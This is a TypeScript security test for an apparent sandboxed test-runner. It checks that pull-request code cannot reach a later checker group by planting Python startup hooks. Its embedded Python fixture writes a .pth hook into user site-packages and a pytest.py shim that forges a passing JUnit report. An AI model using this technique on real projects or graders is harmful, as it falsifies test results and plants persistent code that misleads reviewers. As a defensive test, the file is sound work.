/**
 * Attack on what test groups share (issue 25, item 2), Python, with real Docker and git: the PR's
 * code, loaded by its own group, plants a startup hook for every later Python process — a `.pth`
 * file in the user site folder under $HOME, and a `pytest.py` in the working directory — and a
 * later checker group that loads no PR code (`python3 -m pytest $TANDEM_HIDDEN/…`, SECURITY.md's
 * advice) would run it and report whatever it writes. The checker's test fails honestly (the
 * context repository `lib` is at version 1, the checker wants 2): it must stay failed.
 */
import { execFileSync } from 'node:child_process';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Report } from '../../src/core/report.schema.ts';
import { dockerSuite } from '../helpers/docker-suite.ts';
import { REPO_ROOT, shellCase } from '../helpers/example-cases.ts';
import { byGroup } from './attack-kit.ts';

const docker = dockerSuite('sec-group-state-py');

/**
 * Python that writes a passing JUnit file for the checker (under both names pytest gives its test,
 * by where it runs from) and exits 0 before anything else.
 */
const FORGE = `import os
r = os.environ.get("TANDEM_RESULTS")
if r and os.environ.get("FORGE_TARGET"):
    with open(os.path.join(r, os.environ["FORGE_TARGET"]), "w") as f:
        f.write('<testsuite name="pytest" tests="2">' + "".join(
            '<testcase classname="%s" name="test_lib_is_version_2"/>' % c for c in ("test_check", "hidden.test_check")
        ) + '</testsuite>')
    os._exit(0)
`;

/** The PR's module: importing it (its group's test does) plants both hooks, ignoring refusals. */
const PLANT = `import os, sys
def _plant(path, text):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write(text)
    except OSError:
        pass
_forge = ${JSON.stringify(FORGE)}
_site = os.path.expanduser("~/.local/lib/python%d.%d/site-packages" % sys.version_info[:2])
_plant(os.path.join(_site, "forge_hook.py"), _forge)
_plant(os.path.join(_site, "zz-forge.pth"), "import forge_hook\\n")
_plant(os.path.join(os.environ["TANDEM_WORKSPACE"], "pytest.py"), _forge + "raise SystemExit(1)\\n")
def answer():
    return 42
`;

/** A checker that loads no PR code: lib (context, trusted) must be at version 2; it is at 1. */
const CHECK = `import sys
sys.path.insert(0, __import__("os").environ["TANDEM_WORKSPACE"] + "/lib")
import lib_version
def test_lib_is_version_2():
    assert lib_version.VERSION == 2
`;

const pytest = (result: string, prefix = '') =>
  `${prefix}FORGE_TARGET=${result} python3 -m pytest -q -p no:cacheprovider --junitxml=$TANDEM_RESULTS/${result} $TANDEM_HIDDEN/test_check.py`;

describe('attack: a group plants Python startup hooks for a later checker group', () => {
  let report: Report;

  beforeAll(async () => {
    execFileSync('bash', ['scripts/build-lang-images.sh'], {
      cwd: REPO_ROOT,
      stdio: 'inherit',
      env: { ...process.env, TANDEM_LANG_IMAGES: 'python3' },
    });
    const c = await shellCase({
      name: 'python-group-state',
      repos: [
        { name: 'lib', base: { 'lib_version.py': 'VERSION = 1\n' } },
        {
          name: 'app',
          base: { 'app_code.py': 'def answer():\n    return 42\n' },
          head: { 'app_code.py': PLANT },
        },
      ],
      suite: {
        name: 'python-group-state-suite',
        image: 'tandem/sandbox:python3',
        tests: [
          {
            name: 'app',
            repo: 'acme/app',
            files: ['hidden/test_app.py'],
            run: 'cd app && python3 -m pytest -q -p no:cacheprovider --junitxml=$TANDEM_RESULTS/app.xml $TANDEM_HIDDEN/test_app.py',
            results: { format: 'junit', path: 'app.xml' },
          },
          {
            // Only a pytest.py in the working directory could reach it (-s: no user site).
            name: 'cwd-check',
            files: ['hidden/test_check.py'],
            run: pytest('cwd.xml', 'PYTHONNOUSERSITE=1 '),
            results: { format: 'junit', path: 'cwd.xml' },
          },
          {
            // Only a hook under $HOME could reach it: it runs from the (read-only) hidden folder.
            name: 'home-check',
            files: ['hidden/test_check.py'],
            run: `cd "$TANDEM_HIDDEN" && ${pytest('home.xml')}`,
            results: { format: 'junit', path: 'home.xml' },
          },
        ],
      },
      hidden: {
        'hidden/test_app.py': 'import app_code\ndef test_answer():\n    assert app_code.answer() == 42\n',
        'hidden/test_check.py': CHECK,
      },
    });
    docker.track(c.root);
    report = await docker.evaluate(c.input);
  }, 600_000);

  it("keeps the checker's honest failure in every configuration", () => {
    expect(report.infraErrors).toEqual([]);
    for (const id of ['base', 'full']) {
      expect(byGroup(report, id)).toEqual([
        ['app', 'test_answer', 'passed'],
        ['cwd-check', 'test_lib_is_version_2', 'failed'],
        ['home-check', 'test_lib_is_version_2', 'failed'],
      ]);
    }
  });
});
